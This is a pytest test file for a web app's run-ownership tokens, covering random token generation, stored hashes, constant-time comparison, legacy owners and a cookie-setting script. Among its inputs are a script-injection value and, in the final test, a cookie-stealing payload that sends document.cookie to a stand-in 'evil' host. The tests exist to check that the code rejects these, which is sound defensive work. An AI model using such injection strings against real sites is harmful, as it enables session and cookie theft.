"""Run ownership: the browser's secret token, its hash stored with a run, and the comparison (issue 12)."""

import hmac

import pytest

from rnnviz import owner, runs
from rnnviz import config as cfg
from rnnviz.runs import RunStore

OLD_OWNER = "5f0c1e2d3b4a6978"  # what runs stored before tokens: 16 hex digits of the XSRF cookie's second


def test_a_new_token_is_a_256_bit_secret_nobody_else_gets():
    tokens = {owner.new_token() for _ in range(1000)}
    assert len(tokens) == 1000
    assert all(owner.is_token(token) and len(token) == 43 for token in tokens)  # 32 bytes, base64url


@pytest.mark.parametrize("value", [
    None, 42, b"x" * 43, "", "a" * 42, "a" * 44, "a" * 42 + "!", "a" * 42 + "=", " " + "a" * 42,
    "2|00000000|x|1795976772",  # Streamlit's XSRF cookie, the old owner's source
    OLD_OWNER, "0" * 64,  # a stored owner sent back as the cookie
    "a" * 20 + "'; alert(1); '" + "a" * 9,  # script text where the token goes
    "a" * 42 + "\n",
])
def test_anything_but_a_token_is_not_a_token(value):
    assert not owner.is_token(value)


def test_a_run_stores_a_hash_that_is_no_token():
    token = owner.new_token()
    stored = owner.owner_hash(token)
    assert stored == owner.owner_hash(token) and len(stored) == 64 and int(stored, 16) >= 0
    assert token not in stored and not owner.is_token(stored)  # the runs folder never holds a usable token
    assert stored != owner.owner_hash(owner.new_token())


def test_owners_are_compared_in_constant_time(monkeypatch):
    calls, compare = [], hmac.compare_digest

    def spy(a, b):
        calls.append((a, b))
        return compare(a, b)

    monkeypatch.setattr(owner.hmac, "compare_digest", spy)
    mine = owner.owner_hash(owner.new_token())
    assert owner.same_owner(mine, mine) and not owner.same_owner(mine, owner.owner_hash(owner.new_token()))
    assert len(calls) == 2


@pytest.mark.parametrize("stored", [None, 7, ["x"], {"a": 1}, OLD_OWNER, "유령", ""])
def test_a_damaged_or_old_owner_belongs_to_no_token(stored):
    assert not owner.same_owner(stored, owner.owner_hash(owner.new_token()))


def test_only_the_tokens_hash_may_change_a_run(tmp_path):
    store = RunStore(tmp_path)
    token = owner.new_token()
    config = cfg.quick(cfg.PRESETS["lstm"])
    mine = store.get(store.create(config, owner=owner.owner_hash(token)))
    assert store.read_status(mine.id)["owner"] == owner.owner_hash(token)  # the hash, never the token
    assert token not in (mine.path / runs.STATUS_FILE).read_text()
    assert mine.owned_by(owner.owner_hash(token)) and mine.changeable_by(owner.owner_hash(token))
    other = owner.owner_hash(owner.new_token())
    assert not mine.owned_by(other) and not mine.changeable_by(other)
    assert not mine.changeable_by(token)  # the token itself is not the owner: only its hash is
    old = store.get(store.create(config, owner=OLD_OWNER))  # launched before tokens: nobody's now
    assert not old.changeable_by(owner.owner_hash(token))
    cli = store.get(store.create(config))  # made from the command line: anyone's, nobody's own
    assert cli.changeable_by(other) and not cli.owned_by(other)


def test_the_cookie_script_keeps_the_token_a_year_for_this_site_only():
    token = owner.new_token()
    script = owner.cookie_script(token)
    assert f"{owner.COOKIE}={token};" in script
    assert "max-age=31536000" in script and "path=/" in script and "SameSite=Strict" in script
    assert "'; Secure'" in script and "location.protocol === 'https:'" in script  # Secure on https
    with pytest.raises(ValueError):
        owner.cookie_script("x'; document.location='http://evil/?' + document.cookie; '")
